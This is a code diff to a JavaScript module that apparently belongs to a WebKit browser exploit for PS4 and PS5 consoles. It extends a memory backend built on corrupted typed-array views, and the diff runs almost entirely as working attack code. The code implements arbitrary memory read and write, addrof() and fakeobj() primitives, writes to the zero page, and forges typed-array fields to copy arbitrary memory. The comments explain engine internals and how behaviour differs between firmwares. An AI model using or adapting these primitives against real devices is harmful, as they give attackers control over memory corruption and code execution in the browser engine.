@@ -32,6 +32,17 @@ function init_module(memory) {
     mem = memory;
 }
 
+// BigInt values are truncated to the size of the write
+function to_number(value, size) {
+    if (typeof value === 'bigint') {
+        return Number(BigInt.asUintN(size, value));
+    }
+    return value;
+}
+
+// offsets and values may be BigInts, offsets are converted by Int.add()
+//
+// writes to address 0 work on all firmwares, see write0() from Memory
 export class Addr extends Int {
     read8(offset) {
         const addr = this.add(offset);
@@ -62,29 +73,406 @@ export class Addr extends Int {
     write8(offset, value) {
         const addr = this.add(offset);
 
-        mem.write8(addr, value);
+        mem.write8(addr, to_number(value, 8));
     }
 
     write16(offset, value) {
         const addr = this.add(offset);
 
-        mem.write16(addr, value);
+        mem.write16(addr, to_number(value, 16));
     }
 
     write32(offset, value) {
         const addr = this.add(offset);
 
-        mem.write32(addr, value);
+        mem.write32(addr, to_number(value, 32));
     }
 
     write64(offset, value) {
         const addr = this.add(offset);
 
+        if (typeof value === 'bigint') {
+            value = new Int(value);
+        }
         mem.write64(addr, value);
     }
+
+    read_bytes(offset, len) {
+        const addr = this.add(offset);
+        return mem.read_bytes(addr, len);
+    }
+
+    write_bytes(offset, src) {
+        const addr = this.add(offset);
+        mem.write_bytes(addr, src);
+    }
+
+    // copy len bytes from src to this + offset
+    memcpy(offset, src, len) {
+        const addr = this.add(offset);
+        mem.memcpy(addr, src, len);
+    }
+
+    memset(offset, value, len) {
+        const addr = this.add(offset);
+        mem.memset(addr, value, len);
+    }
+
+    // compare len bytes at this + offset with the ones at other
+    memcmp(offset, other, len) {
+        const addr = this.add(offset);
+        return mem.memcmp(addr, other, len);
+    }
+
+    read_cstring(offset, max) {
+        const addr = this.add(offset);
+        return mem.read_cstring(addr, max);
+    }
+
+    read_utf16(offset, len) {
+        const addr = this.add(offset);
+        return mem.read_utf16(addr, len);
+    }
+
+    write_cstring(offset, str) {
+        const addr = this.add(offset);
+        mem.write_cstring(addr, str);
+    }
+
+    // this + offset must point to a WTF::StringImpl
+    read_strimpl(offset) {
+        const addr = this.add(offset);
+        return mem.read_strimpl(addr);
+    }
+}
+
+// read_cstring() reads in chunks that never cross a multiple of this, so it
+// won't touch the next page if the NUL terminator is before it
+const cstring_chunk = 0x100;
+
+// bytes to a string, each byte is a Latin-1 character
+function latin1_decode(bytes) {
+    let res = '';
+    for (let i = 0; i < bytes.length; i++) {
+        res += String.fromCharCode(bytes[i]);
+    }
+    return res;
+}
+
+// Reads larger than this (in bytes) use a view from make_buffer() instead of
+// indexing the worker byte by byte. make_buffer() needs an addrof() and
+// several reads/writes to set up the view, so it is only worth it for larger
+// sizes.
+//
+// Writes always index the worker, the buffer from make_buffer() is a copy of
+// the memory, see Memory.make_buffer().
+const bulk_threshold = 0x100;
+
+// Memory.write_bytes() and memset() point the worker to the next chunk of
+// this many bytes with set_addr() so the indexes stay small
+const write_chunk = 0x1000;
+
+function check_len(len) {
+    if (!Number.isInteger(len) || len < 0 || len > 0xffffffff) {
+        throw RangeError(`invalid length: ${len}`);
+    }
+}
+
+// read0() and write0() accept offsets in the first 4 GiB, as a number or an
+// Int. size is the number of bits to read/write. Returns the offset as a
+// number.
+//
+// The worker's m_length is 0xffffffff and it is indexed starting at 1, so the
+// constraint is 0 <= offset and offset + size/8 < 2**32 - 1.
+function check_zero_page(func, size, offset) {
+    if (size !== 8 && size !== 16 && size !== 32 && size !== 64) {
+        throw RangeError(`${func}() invalid size: ${size}`);
+    }
+    if (offset instanceof Int) {
+        if (offset.high() !== 0) {
+            throw RangeError(`${func}() invalid offset: ${offset}`);
+        }
+        offset = offset.low();
+    }
+    if (!Number.isInteger(offset)
+        || offset < 0
+        || offset + size/8 >= 0xffffffff
+    ) {
+        throw RangeError(`${func}() invalid offset: ${offset}`);
+    }
+    return offset;
+}
+
+// the worker points here when accessing the zero page, see write0()
+const zero_page_vector = new Int(-1);
+
+// Memory is accessed through a backend. Backends extend MemoryBase and
+// implement the primitives:
+//
+// * read8(), read16(), read32(), read64(), write8(), write16(), write32() and
+//   write64()
+// * view(addr, size), returns a Uint8Array with a snapshot of the size bytes
+//   at addr. It is a copy on every backend, writes to it don't change the
+//   memory, use write_bytes() instead.
+// * _addrof(obj), returns the address of a JS object as an Int
+//
+// The rest of the operations are built on top of them, backends may override
+// them if they have a faster way. The last backend created is the one used by
+// Addr and the other modules, see the exported "mem".
+//
+// Memory (the corrupted views from the exploit) is the backend used on the
+// console. MockMemory from mockmem.mjs is for testing without one.
+export class MemoryBase {
+    constructor() {
+        init_module(this);
+    }
+
+    _addrof(obj) {
+        throw Error('_addrof() not implemented');
+    }
+
+    addrof(obj) {
+        return new Addr(this._addrof(obj));
+    }
+
+    // The inverse of addrof(), returns the JS value whose JSCell is at addr.
+    // Optional for backends.
+    fakeobj(addr) {
+        throw Error('fakeobj() not implemented');
+    }
+
+    // Throws if fakeobj(addrof(obj)) !== obj. Call this before relying on
+    // fakeobj().
+    test_fakeobj() {
+        const obj = {};
+        const addr = this.addrof(obj);
+        if (this.fakeobj(addr) !== obj) {
+            throw Error(`fakeobj() failed round-trip, addrof(obj): ${addr}`);
+        }
+    }
+
+    view(addr, size) {
+        throw Error('view() not implemented');
+    }
+
+    // Returns an ArrayBuffer whose contents are a copy of the size bytes at
+    // addr. This is optional, prefer view() if you don't need the ArrayBuffer
+    // itself.
+    make_buffer(addr, size) {
+        throw Error('make_buffer() not implemented');
+    }
+
+    // returns a copy of the len bytes at addr
+    read_bytes(addr, len) {
+        check_len(len);
+        return this.view(addr, len);
+    }
+
+    // src is a Uint8Array or an Array of bytes
+    write_bytes(addr, src) {
+        check_len(src.length);
+        for (let i = 0; i < src.length; i++) {
+            this.write8(addr.add(i), src[i]);
+        }
+    }
+
+    // Overlapping areas are allowed, src is copied to a temporary first.
+    memcpy(dst, src, len) {
+        this.write_bytes(dst, this.read_bytes(src, len));
+    }
+
+    memset(addr, value, len) {
+        check_len(len);
+        for (let i = 0; i < len; i++) {
+            this.write8(addr.add(i), value);
+        }
+    }
+
+    // String operations. Native strings are treated as Latin-1, each byte is
+    // one character.
+
+    // Reads a NUL-terminated string at addr. At most max bytes are read, the
+    // string is truncated if no NUL is found within them.
+    read_cstring(addr, max=0x1000) {
+        check_len(max);
+        let res = '';
+        let pos = 0;
+        while (pos < max) {
+            const chunk_addr = addr.add(pos);
+            const to_boundary = cstring_chunk
+                - (chunk_addr.low() & (cstring_chunk - 1));
+            const len = Math.min(max - pos, to_boundary);
+            const bytes = this.read_bytes(chunk_addr, len);
+
+            const nul = bytes.indexOf(0);
+            if (nul !== -1) {
+                return res + latin1_decode(bytes.subarray(0, nul));
+            }
+            res += latin1_decode(bytes);
+            pos += len;
+        }
+        return res;
+    }
+
+    // len is the number of UTF-16 code units, not bytes
+    read_utf16(addr, len) {
+        check_len(len * 2);
+        const bytes = this.read_bytes(addr, len * 2);
+        let res = '';
+        for (let i = 0; i < bytes.length; i += 2) {
+            res += String.fromCharCode(bytes[i] | bytes[i + 1] << 8);
+        }
+        return res;
+    }
+
+    // writes str and a NUL terminator
+    write_cstring(addr, str) {
+        const bytes = new Uint8Array(str.length + 1);
+        for (let i = 0; i < str.length; i++) {
+            const c = str.charCodeAt(i);
+            if (c > 0xff) {
+                throw RangeError(
+                    `character not Latin-1: ${str[i]} at index ${i}`
+                );
+            }
+            bytes[i] = c;
+        }
+        this.write_bytes(addr, bytes);
+    }
+
+    // Reads the characters of the WTF::StringImpl at addr. Both 8-bit and
+    // 16-bit strings are supported.
+    read_strimpl(addr) {
+        const len = this.read32(addr.add(o.strimpl_strlen));
+        const flags = this.read32(addr.add(o.strimpl_hash_and_flags));
+        // points to addr + strimpl_inline_str if the string is inlined
+        const data = this.readp(addr.add(o.strimpl_m_data));
+
+        if (flags & o.strimpl_flag_8bit) {
+            return latin1_decode(this.read_bytes(data, len));
+        }
+        return this.read_utf16(data, len);
+    }
+
+    // Returns -1, 0 or 1 if the bytes at a are less than, equal or greater
+    // than the ones at b. Like the C function, the bytes are compared as
+    // unsigned.
+    memcmp(a, b, len) {
+        const a_bytes = this.read_bytes(a, len);
+        const b_bytes = this.read_bytes(b, len);
+        for (let i = 0; i < len; i++) {
+            if (a_bytes[i] !== b_bytes[i]) {
+                return a_bytes[i] < b_bytes[i] ? -1 : 1;
+            }
+        }
+        return 0;
+    }
+
+    // Accesses the zero page (the first 4 GiB, not just address 0) using
+    // offset as the address. Backends that can't access address 0 like the
+    // rest override these, see write0() of Memory.
+
+    read0(size, offset) {
+        const addr = new Int(check_zero_page('read0', size, offset));
+        switch (size) {
+            case 8: {
+                return this.read8(addr);
+            }
+            case 16: {
+                return this.read16(addr);
+            }
+            case 32: {
+                return this.read32(addr);
+            }
+            case 64: {
+                return this.read64(addr);
+            }
+        }
+    }
+
+    write0(size, offset, value) {
+        const addr = new Int(check_zero_page('write0', size, offset));
+        switch (size) {
+            case 8: {
+                this.write8(addr, to_number(value, 8));
+                break;
+            }
+            case 16: {
+                this.write16(addr, to_number(value, 16));
+                break;
+            }
+            case 32: {
+                this.write32(addr, to_number(value, 32));
+                break;
+            }
+            case 64: {
+                if (typeof value === 'bigint') {
+                    value = new Int(value);
+                }
+                this.write64(addr, value);
+                break;
+            }
+        }
+    }
+
+    // returns a pointer instead of an Int
+    readp(addr) {
+        return new Addr(this.read64(addr));
+    }
+
+    read8(addr) {
+        throw Error('read8() not implemented');
+    }
+
+    read16(addr) {
+        throw Error('read16() not implemented');
+    }
+
+    read32(addr) {
+        throw Error('read32() not implemented');
+    }
+
+    read64(addr) {
+        throw Error('read64() not implemented');
+    }
+
+    write8(addr, value) {
+        throw Error('write8() not implemented');
+    }
+
+    write16(addr, value) {
+        throw Error('write16() not implemented');
+    }
+
+    write32(addr, value) {
+        throw Error('write32() not implemented');
+    }
+
+    write64(addr, value) {
+        throw Error('write64() not implemented');
+    }
 }
 
-class MemoryBase {
+// Backend using the corrupted views from the exploit. main can overwrite the
+// m_vector of worker, we point it to the address we want to access then index
+// worker.
+export class Memory extends MemoryBase {
+    constructor(main, worker)  {
+        super();
+
+        this.main = main;
+        this.worker = worker;
+
+        // The initial creation of the "a" property will change the butterfly
+        // address. Do it now so we can cache it for addrof().
+        worker.a = 0; // dummy value, we just want to create the "a" property
+        this.butterfly = read64(main, o.js_butterfly);
+
+        write32(main, o.view_m_length, 0xffffffff);
+
+        this._current_addr = Int.Zero;
+    }
+
     _addrof(obj) {
         if (typeof obj !== 'object'
             && typeof obj !== 'function'
@@ -99,8 +487,122 @@ class MemoryBase {
         return res;
     }
 
-    addrof(obj) {
-        return new Addr(this._addrof(obj));
+    // Sets the "a" property to the JSValue addr. A JSValue is a pointer to a
+    // JSCell if its upper 16 bits are zero and its lower bits are not a tag
+    // for null, undefined, true or false. So we only accept nonzero, 8-byte
+    // aligned addresses with the upper 16 bits clear, else we would get a
+    // number or one of those values back instead.
+    //
+    // See JSCJSValue.h from WebKit/Source/JavaScriptCore/runtime at webkitgtk
+    // 2.34.4 for the encoding.
+    //
+    // addr must point to a valid JSCell (a real object or a fake one you
+    // crafted), the GC will crash when it visits a bad one.
+    fakeobj(addr) {
+        if (!(addr instanceof Int)) {
+            throw TypeError('addr must be an Int');
+        }
+        if (addr.high() >>> 16 !== 0
+            || (addr.low() & 7) !== 0
+            || addr.eq(0)
+        ) {
+            throw RangeError(`not a valid JSCell pointer: ${addr}`);
+        }
+
+        write64(this.main, o.view_m_vector, this.butterfly.sub(0x10));
+        write64(this.worker, 0, addr);
+        write64(this.main, o.view_m_vector, this._current_addr);
+        const res = this.worker.a;
+        // don't leave a reference to the fake object for the GC to find
+        this.worker.a = 0;
+
+        return res;
+    }
+
+    // Returns an ArrayBuffer whose contents are the size bytes at addr.
+    //
+    // The ArrayBuffer is a copy. Asking for the buffer of a FastTypedArray
+    // makes JSC allocate a new ArrayBuffer and copy the contents of the view
+    // into it (see slowDownAndWasteMemory() of JSArrayBufferView), so writes
+    // to it don't reach the memory at addr.
+    make_buffer(addr, size) {
+        // see enum TypedArrayMode from
+        // WebKit/Source/JavaScriptCore/runtime/JSArrayBufferView.h
+        // at webkitgtk 2.34.4
+        //
+        // views with m_mode < WastefulTypedArray don't have a ArrayBuffer
+        // object associated with them, if we ask for view.buffer, it will be
+        // created on the fly
+        const mode_fast = 0;
+        const u = new Uint8Array(1);
+        const u_addr = this.addrof(u);
+
+        const old_addr = u_addr.read64(o.view_m_vector);
+        u_addr.write64(o.view_m_vector, addr);
+
+        const old_size = u_addr.read32(o.view_m_length);
+        u_addr.write32(o.view_m_length, size);
+
+        const old_mode = u_addr.read32(o.view_m_mode);
+        // force mode to FastTypedArray
+        u_addr.write32(o.view_m_mode, mode_fast);
+
+        const res = u.buffer;
+
+        // restore
+        u_addr.write64(o.view_m_vector, old_addr);
+        u_addr.write32(o.view_m_length, old_size);
+        u_addr.write32(o.view_m_mode, old_mode);
+
+        return res;
+    }
+
+    view(addr, size) {
+        return new Uint8Array(this.make_buffer(addr, size));
+    }
+
+    // Bulk operations. Reads up to bulk_threshold index the worker directly,
+    // larger ones use the generic version from MemoryBase, with a copy from
+    // make_buffer(). Writes index the worker, with a set_addr() for every
+    // write_chunk bytes.
+
+    // returns a copy of the len bytes at addr
+    read_bytes(addr, len) {
+        check_len(len);
+        if (len > bulk_threshold) {
+            return super.read_bytes(addr, len);
+        }
+
+        const res = new Uint8Array(len);
+        this.set_addr(addr);
+        for (let i = 0; i < len; i++) {
+            res[i] = this.worker[i];
+        }
+        return res;
+    }
+
+    // src is a Uint8Array or an Array of bytes
+    write_bytes(addr, src) {
+        const len = src.length;
+        check_len(len);
+        for (let pos = 0; pos < len; pos += write_chunk) {
+            const start = this._set_write_addr(addr.add(pos));
+            const end = Math.min(len, pos + write_chunk);
+            for (let i = pos; i < end; i++) {
+                this.worker[start + i - pos] = src[i];
+            }
+        }
+    }
+
+    memset(addr, value, len) {
+        check_len(len);
+        for (let pos = 0; pos < len; pos += write_chunk) {
+            const start = this._set_write_addr(addr.add(pos));
+            const end = Math.min(len, pos + write_chunk);
+            for (let i = pos; i < end; i++) {
+                this.worker[start + i - pos] = value;
+            }
+        }
     }
 
     set_addr(addr) {
@@ -116,15 +618,18 @@ class MemoryBase {
     }
 
     // write0() is for when you want to write to address 0. You can't use for
-    // example: "mem.write32(Int.Zero, 0)", since you can't set by index the
-    // view when it isDetached(). isDetached() == true when m_mode >=
-    // WastefulTypedArray and m_vector == 0.
+    // example: "write32(this.worker, 0, 0)" with the worker pointing to
+    // address 0, since you can't set by index the view when it isDetached().
+    // isDetached() == true when m_mode >= WastefulTypedArray and m_vector ==
+    // 0.
     //
-    // Functions like write32() will index mem.worker via write() from rw.mjs.
+    // We point the worker to address -1 instead and index it from 1, the
+    // address wraps around to 0. This works for any offset in the first 4 GiB,
+    // see check_zero_page().
     //
-    // size is the number of bits to read/write.
-    //
-    // The constraint is 0 <= offset + 1 < 2**32.
+    // The write primitives do this automatically for address 0 (see
+    // _set_write_addr()), so write0() is only needed if you want to be
+    // explicit about it.
     //
     // PS4 firmwares >= 9.00 and any PS5 version can write to address 0
     // directly. All firmwares (PS4 and PS5) can read address 0 directly.
@@ -135,32 +640,65 @@ class MemoryBase {
     //
     // TypeError: Underlying ArrayBuffer has been detached from the view
     write0(size, offset, value) {
+        offset = check_zero_page('write0', size, offset);
         const i = offset + 1;
-        if (i >= 2**32 || i < 0) {
-            throw RangeError(`read0() invalid offset: ${offset}`);
-        }
-
-        this.set_addr(new Int(-1));
+        this.set_addr(zero_page_vector);
 
         switch (size) {
             case 8: {
-                this.worker[i] = value;
+                this.worker[i] = to_number(value, 8);
+                break;
             }
             case 16: {
-                write16(this.worker, i, value);
+                write16(this.worker, i, to_number(value, 16));
+                break;
             }
             case 32: {
-                write32(this.worker, i, value);
+                write32(this.worker, i, to_number(value, 32));
+                break;
             }
             case 64: {
+                if (typeof value === 'bigint') {
+                    value = new Int(value);
+                }
                 write64(this.worker, i, value);
+                break;
+            }
+        }
+    }
+
+    read0(size, offset) {
+        offset = check_zero_page('read0', size, offset);
+        const i = offset + 1;
+        this.set_addr(zero_page_vector);
+
+        switch (size) {
+            case 8: {
+                return this.worker[i];
+            }
+            case 16: {
+                return read16(this.worker, i);
+            }
+            case 32: {
+                return read32(this.worker, i);
             }
-            default: {
-                throw RangeError(`write0() invalid size: ${size}`);
+            case 64: {
+                return read64(this.worker, i);
             }
         }
     }
 
+    // Points the worker to addr for writing and returns the index to use. See
+    // write0().
+    _set_write_addr(addr) {
+        if (addr.low() === 0 && addr.high() === 0) {
+            this.set_addr(zero_page_vector);
+            return 1;
+        }
+        this.set_addr(addr);
+        return 0;
+    }
+
     read8(addr) {
         this.set_addr(addr);
         return this.worker[0];
@@ -183,46 +721,28 @@ class MemoryBase {
 
     // returns a pointer instead of an Int
     readp(addr) {
-        return new Addr(this.read64(addr));
+        this.set_addr(addr);
+        // avoid creating an intermediate Int
+        return new Addr(read32(this.worker, 0), read32(this.worker, 4));
     }
 
     write8(addr, value) {
-        this.set_addr(addr);
-        this.worker[0] = value;
+        const i = this._set_write_addr(addr);
+        this.worker[i] = value;
     }
 
     write16(addr, value) {
-        this.set_addr(addr);
-        write16(this.worker, 0, value);
+        const i = this._set_write_addr(addr);
+        write16(this.worker, i, value);
     }
 
     write32(addr, value) {
-        this.set_addr(addr);
-        write32(this.worker, 0, value);
+        const i = this._set_write_addr(addr);
+        write32(this.worker, i, value);
     }
 
     write64(addr, value) {
-        this.set_addr(addr);
-        write64(this.worker, 0, value);
-    }
-}
-
-export class Memory extends MemoryBase {
-    constructor(main, worker)  {
-        super();
-
-        this.main = main;
-        this.worker = worker;
-
-        // The initial creation of the "a" property will change the butterfly
-        // address. Do it now so we can cache it for addrof().
-        worker.a = 0; // dummy value, we just want to create the "a" property
-        this.butterfly = read64(main, o.js_butterfly);
-
-        write32(main, o.view_m_length, 0xffffffff);
-
-        this._current_addr = Int.Zero;
-
-        init_module(this);
+        const i = this._set_write_addr(addr);
+        write64(this.worker, i, value);
     }
 }